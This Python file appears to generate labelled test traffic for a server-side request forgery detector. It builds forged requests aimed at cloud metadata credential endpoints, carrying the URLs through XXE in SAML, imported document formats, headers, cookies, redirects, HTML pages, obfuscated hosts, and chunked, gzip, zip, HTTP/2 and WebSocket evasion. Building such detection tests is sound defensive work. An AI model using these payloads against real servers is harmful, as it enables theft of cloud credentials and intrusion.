"""More forms of a forged request: documents that applications import, headers, redirects, long archives."""
import base64
import gzip
import json
import zlib
from urllib.parse import quote

from disguises import FORM, JSON, URL, XML, attempt, confirmed, h2, multipart_post, page_led, ws, ws_frame, zipped
from wire import *

HOSTS = {
    "ec2-v6": f"http://[fd00:ec2::254]{PATH}", "alibaba": "http://100.100.100.200/latest/meta-data/ram/security-credentials/app", "oracle": f"http://{IMDS}/opc/v2/identity/cert.pem",
    "ecs": "http://169.254.170.2/v2/credentials/3d0a1c2e-7f3b-4e5b-9a51-2d7e3f9c0b1a", "eks": "http://169.254.170.23/v1/credentials", "gcp-name": f"http://metadata.google.internal{GCP_PATH}", "azure": f"http://{IMDS}{AZURE_PATH}",
    "digitalocean": f"http://{IMDS}/metadata/v1/user-data", "wildcard": f"http://169.254.169.254.nip.io{PATH}", "userinfo": f"http://a:b@{IMDS}{PATH}", "port": f"http://{IMDS}:80{PATH}", "hex": f"http://0xa9.0xfe.0xa9.0xfe{PATH}", "zeros": f"http://169.254.169.0254{PATH}",
}


def redirected(status, location, more=""):
    """The server follows a redirect of the attacker's."""
    def build(capture):
        def visit():
            capture.exchange(APP, OTHER, b"GET /r HTTP/1.1\r\nHost: pages.example\r\nUser-Agent: python-requests/2.31\r\n\r\n",
                             f"HTTP/1.1 {status}\r\n{more}Location: {location}\r\nContent-Length: 0\r\n\r\n".encode())
            capture.fetch()
        capture.inbound(get("/fetch?u=http://pages.example/r"), visit)
    return "ssrf-confirmed", build


def pieces(request, piece):
    return "ssrf-confirmed", lambda c: c.talk(USER, APP, 8080, [("c", request), c.fetch, ("s", answer(b"ok"))], piece)


def cases():
    j = lambda **fields: json.dumps(fields)
    # --- documents that applications import
    saml = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{URL}">]><samlp:AuthnRequest xmlns:samlp="urn:oasis">&x;</samlp:AuthnRequest>'
    documents = {
        "yaml": ("application/yaml", f"name: a\nicon: {URL}\n"), "yaml-quoted": ("text/yaml", f"icon: \"{URL}\"\nname: a\n"), "yaml-list": ("application/x-yaml", f"sources:\n  - https://a.example/x\n  - {URL}\n"), "toml": ("application/toml", f"[a]\nurl = \"{URL}\"\n"), "ini": ("text/plain", f"[feed]\nurl={URL}\n"),
        "csv": ("text/csv", f"name,url\na,{URL}\n"), "csv-quoted": ("text/csv", f"name,url\n\"a\",\"{URL}\"\n"), "tsv": ("text/tab-separated-values", f"name\turl\na\t{URL}\n"), "lines": ("text/plain", f"https://a.example/1\n{URL}\nhttps://a.example/2\n"), "ndjson": ("application/x-ndjson", j(u="http://a.example/x") + "\n" + j(u=URL) + "\n"),
        "soap": (XML, f'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Import><Location>{URL}</Location></Import></soap:Body></soap:Envelope>'), "xmlrpc": (XML, f"<?xml version='1.0'?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>{URL}</string></value></param></params></methodCall>"),
        "jsonrpc": (JSON, j(jsonrpc="2.0", method="fetch", params=[URL], id=1)), "json-string": (JSON, json.dumps(URL)), "json-array": (JSON, json.dumps(["a", [URL]])), "json-in-json": (JSON, j(body=j(url=URL))), "json-in-json-in-json": (JSON, j(body=j(body=j(url=URL)))), "json-api": ("application/vnd.api+json", j(data={"attributes": {"source": URL}})),
        "graphql-inline": (JSON, j(query=f'mutation {{ import(url: "{URL}") {{ id }} }}')), "graphql-plain": ("application/graphql", f'mutation {{ import(url: "{URL}") {{ id }} }}'), "opml": (XML, f"<?xml version='1.0'?><opml><body><outline xmlUrl='{URL}'/></body></opml>"), "sitemap": (XML, f"<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>{URL}</loc></url></urlset>"),
        "ics": ("text/calendar", f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:{URL}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "vcard": ("text/vcard", f"BEGIN:VCARD\r\nPHOTO;VALUE=uri:{URL}\r\nEND:VCARD\r\n"), "pdf": ("application/pdf", f"%PDF-1.4\n1 0 obj<</S/URI/URI({URL})>>endobj\n"), "mvg": ("image/mvg", f"push graphic-context\nfill 'url({URL})'\npop graphic-context\n"), "latex": ("text/plain", f"\\input{{{URL}}}\n"),
        "dockerfile": ("text/plain", f"FROM alpine\nADD {URL} /x\n"), "postscript": ("application/postscript", f"%!PS\n({URL}) (r) file\n"), "css": ("text/css", f"@import '{URL}';"), "m3u": ("audio/x-mpegurl", f"#EXTM3U\n#EXTINF:1,\n{URL}\n"), "dcr": (JSON, j(redirect_uris=["https://a.example/cb"], jwks_uri=URL)), "markdown": ("text/markdown", f"# a\n\n![x]({URL})\n"), "rst": ("text/plain", f".. image:: {URL}\n"),
        "saml-form": (FORM, "SAMLRequest=" + quote(base64.b64encode(saml.encode()).decode(), safe="")), "saml-deflated": (FORM, "SAMLRequest=" + quote(base64.b64encode(zlib.compress(saml.encode())[2:-4]).decode(), safe="")), "form-json": (FORM, "payload=" + quote(j(url=URL))), "form-json-plus": (FORM, "payload=%7B+%22url%22+%3A+%22" + quote(URL, safe="") + "%22+%7D"), "form-array": (FORM, f"urls%5B%5D={quote(URL, safe='')}"), "text-json": ("text/plain", j(url=URL)), "no-type": ("", j(url=URL)), "no-type-form": ("", f"url={quote(URL, safe='')}"), "octets": ("application/octet-stream", j(url=URL)),
        "json-hash-fragment": (JSON, j(url=URL + "#x")), "json-query": (JSON, j(url=URL + "?a=b")), "json-padded": (JSON, j(url=f"   {URL}  ")), "json-unicode": (JSON, '{"url": "' + "".join("\\u%04x" % ord(ch) for ch in URL) + '"}'), "json-mixed-case": (JSON, j(url=URL.replace("http", "HtTp"))), "json-trailing-comma": (JSON, '{"url": "' + URL + '",}'), "json-comment": (JSON, '// a\n{"url": "' + URL + '"}'), "json-single-quotes": (JSON, "{'url': '" + URL + "'}"), "js-callback": ("application/javascript", f"load('{URL}')"),
    }
    for name, (kind, body) in documents.items():
        yield f"import-{name}", confirmed(post(body, kind) if kind else f"POST /i HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
        yield f"import-{name}-part", confirmed(multipart_post([(f'Content-Disposition: form-data; name="f"; filename="f"\r\nContent-Type: {kind or "text/plain"}', body)]))
    for method in ("PUT", "PATCH", "DELETE", "PROPFIND", "FOO"):
        yield f"method-{method}", confirmed(post(j(url=URL), JSON).replace(b"POST", method.encode(), 1))
    # --- headers
    for name in ("X-Original-URL", "X-Rewrite-URL", "Destination", "X-Callback-Url", "Content-Location", "X-Wap-Profile", "SOAPAction", "X-Forwarded-Host", "Request-URI", "Target-URL", "If", "Link"):
        value = f"{IMDS}" if name == "X-Forwarded-Host" else f"<{URL}>; rel=x" if name == "Link" else URL
        target = PATH if name == "X-Forwarded-Host" else "/a"
        yield f"header-{name.lower()}", confirmed(get(target, f"{name}: {value}\r\n"))
    yield "header-folded", confirmed(get("/a", f"X-Source:\r\n {URL}\r\n"))
    yield "header-base64", confirmed(get("/a", f"X-Options: {base64.b64encode(j(url=URL).encode()).decode()}\r\n"))
    yield "cookie-base64", confirmed(get("/a", f"Cookie: prefs={base64.b64encode(j(avatar=URL).encode()).decode()}\r\n"))
    yield "cookie-percent", confirmed(get("/a", f"Cookie: avatar={quote(URL, safe='')}\r\n"))
    # --- hosts
    for name, url in HOSTS.items():
        yield f"host-{name}-query", attempt(get("/f?u=" + quote(url, safe="")))
        yield f"host-{name}-json", attempt(post(j(u=url), JSON))
        yield f"host-{name}-part", attempt(multipart_post([('Content-Disposition: form-data; name="u"', url)]))
    # --- framing
    body = post(j(url=URL), JSON)
    for size in (1, 3, 17):
        yield f"pieces-{size}", pieces(body, size)
        yield f"pieces-{size}-query", pieces(get(f"/f?u={URL}"), size)
    yield "second-on-connection", ("ssrf-confirmed", lambda c: c.talk(USER, APP, 8080, [("c", get("/a")), ("s", answer(b"a")), ("c", body), c.fetch, ("s", answer(b"ok"))]))
    yield "pipelined", ("ssrf-confirmed", lambda c: c.talk(USER, APP, 8080, [("c", get("/a") + body), ("s", answer(b"a")), c.fetch, ("s", answer(b"ok"))]))
    yield "expect-continue", ("ssrf-confirmed", lambda c: c.talk(USER, APP, 8080, [("c", post(j(url=URL), JSON, headers="Expect: 100-continue\r\n")[:-len(j(url=URL))]), ("s", b"HTTP/1.1 100 Continue\r\n\r\n"), ("c", j(url=URL).encode()), c.fetch, ("s", answer(b"ok"))]))
    yield "bare-lf", confirmed(get(f"/f?u={URL}").replace(b"\r\n", b"\n"))
    yield "http10", confirmed(get(f"/f?u={URL}").replace(b"HTTP/1.1", b"HTTP/1.0"))
    yield "absolute-form", confirmed(f"GET {URL} HTTP/1.1\r\nHost: {IMDS}\r\nUser-Agent: curl/8\r\n\r\n".encode())
    chunked_body = b"POST /i HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield "chunk-of-one", confirmed(chunked_body + chunked(j(url=URL).encode(), 1))
    yield "chunk-extension", confirmed(chunked_body + b"%x;a=b\r\n" % len(j(url=URL)) + j(url=URL).encode() + b"\r\n0\r\n\r\n")
    h2_head = [(":method", "POST"), (":scheme", "http"), (":path", "/import"), (":authority", "app"), ("content-type", JSON)]
    back = [(":status", "200"), ("content-type", JSON)]
    yield "h2-json", ("ssrf-confirmed", h2(h2_head, j(url=URL).encode(), back, b"{}", port=8080))
    yield "h2-target", ("ssrf-confirmed", h2([(":method", "GET"), (":scheme", "http"), (":path", f"/f?u=http://{IMDS}{PATH}"), (":authority", "app")], b"", back, b"{}", port=8080))
    yield "h2-header", ("ssrf-confirmed", h2(h2_head[:4] + [("x-source", URL)], b"{}", back, b"{}", port=8080))
    long_gzip = gzip.compress(j(pad=rand(5, 150_000), url=URL).encode())
    yield "h2-gzip-long", ("ssrf-confirmed", h2(h2_head + [("content-encoding", "gzip")], long_gzip, back, b"{}", port=8080))
    # --- long archives and codings
    media = [(f"xl/media/image{i}.png", rand(i, 30_000)) for i in range(6)]
    rel = f'<?xml version="1.0"?><Relationships xmlns="http://x"><Relationship Id="r1" Type="http://x/image" Target="{URL}" TargetMode="External"/></Relationships>'
    for name, method in {"deflated": 8, "stored": 0}.items():
        packed = zipped(media + [("xl/externalLinks/_rels/externalLink1.xml.rels", rel)], method)
        yield f"zip-long-{name}", confirmed(post(packed, "application/octet-stream"))
        yield f"zip-long-{name}-chunked", confirmed(post_chunked(packed, "application/octet-stream"))
    table = j(rows=[{"id": i, "name": "a row of a table that is much like the others"} for i in range(20_000)], url=URL).encode()
    yield "gzip-table", confirmed(post(gzip.compress(table), JSON, headers="Content-Encoding: gzip\r\n"))
    yield "gzip-twice-long", confirmed(post(gzip.compress(gzip.compress(j(pad=rand(6, 150_000), url=URL).encode())), JSON, headers="Content-Encoding: gzip, gzip\r\n"))
    yield "gzip-undeclared-long", confirmed(post(gzip.compress(j(pad=rand(6, 150_000), url=URL).encode()), JSON))
    yield "gzip-middle", confirmed(post(gzip.compress(j(pad=rand(6, 150_000), url=URL, more=rand(7, 150_000)).encode()), JSON, headers="Content-Encoding: gzip\r\n"))
    yield "gzip-chunked-long", confirmed(post_chunked(gzip.compress(j(pad=rand(6, 150_000), url=URL).encode()), JSON, headers="Content-Encoding: gzip\r\n"))
    # --- redirects and pages
    for name, (status, location) in {"301": ("301 Moved Permanently", URL), "302": ("302 Found", URL), "303": ("303 See Other", URL), "307": ("307 Temporary Redirect", URL), "308": ("308 Permanent Redirect", URL), "decimal": ("302 Found", f"http://2852039166{PATH}"), "relative-scheme": ("302 Found", f"//{IMDS}{PATH}"), "userinfo": ("302 Found", f"http://a@{IMDS}{PATH}"), "upper": ("302 Found", URL.replace("http", "HTTP")), "port": ("302 Found", f"http://{IMDS}:80{PATH}"), "fragment": ("302 Found", URL + "#a"), "nip": ("302 Found", f"http://169.254.169.254.nip.io{PATH}")}.items():
        yield f"redirect-{name}", redirected(status, location)
    for name, (kind, page) in {"relative-base": ("text/html", f"<base href='http://{IMDS}/latest/'><iframe src='meta-data/iam/security-credentials/demo'>"), "form-script": ("text/html", f"<body onload='document.f.submit()'><form name=f action='{URL}' method=get></form>"), "import-map": ("text/html", f"<script type=module>import '{URL}'</script>"), "worker": ("text/html", f"<script>new Worker('{URL}')</script>"), "jsonld": ("application/ld+json", j(**{"@context": URL})), "openapi": (JSON, j(openapi="3.0.0", paths={"/a": {"$ref": URL}})), "oembed-html": (JSON, j(type="rich", html=f"<iframe src='{URL}'></iframe>")), "atom": ("application/atom+xml", f"<?xml version='1.0'?><feed xmlns='http://www.w3.org/2005/Atom'><link rel='next' href='{URL}'/></feed>"), "json-feed": ("application/feed+json", j(version="https://jsonfeed.org/version/1", next_url=URL)), "webfinger": ("application/jrd+json", j(links=[{"rel": "self", "href": URL}])), "oidc": (JSON, j(issuer="http://a", jwks_uri=URL)), "json-array": (JSON, json.dumps([{"url": URL}])), "gzip": ("text/html", None)}.items():
        if page:
            yield f"led-{name}", page_led(kind, page)
    # --- WebSocket
    yield "ws-long-binary", ws(ws_frame(b"\0\1" + j(pad=rand(3, 90_000), url=URL).encode(), 2))
    yield "ws-many-frames", ws(*[ws_frame((rand(i, 9000)).encode(), 1 if i == 0 else 0, False) for i in range(10)], ws_frame(b'","url":"' + URL.encode() + b'"}', 0))
    yield "ws-json-escaped", ws(ws_frame(j(url=URL).replace("/", "\\/").encode()))
    yield "ws-base64", ws(ws_frame(base64.b64encode(j(url=URL).encode())))
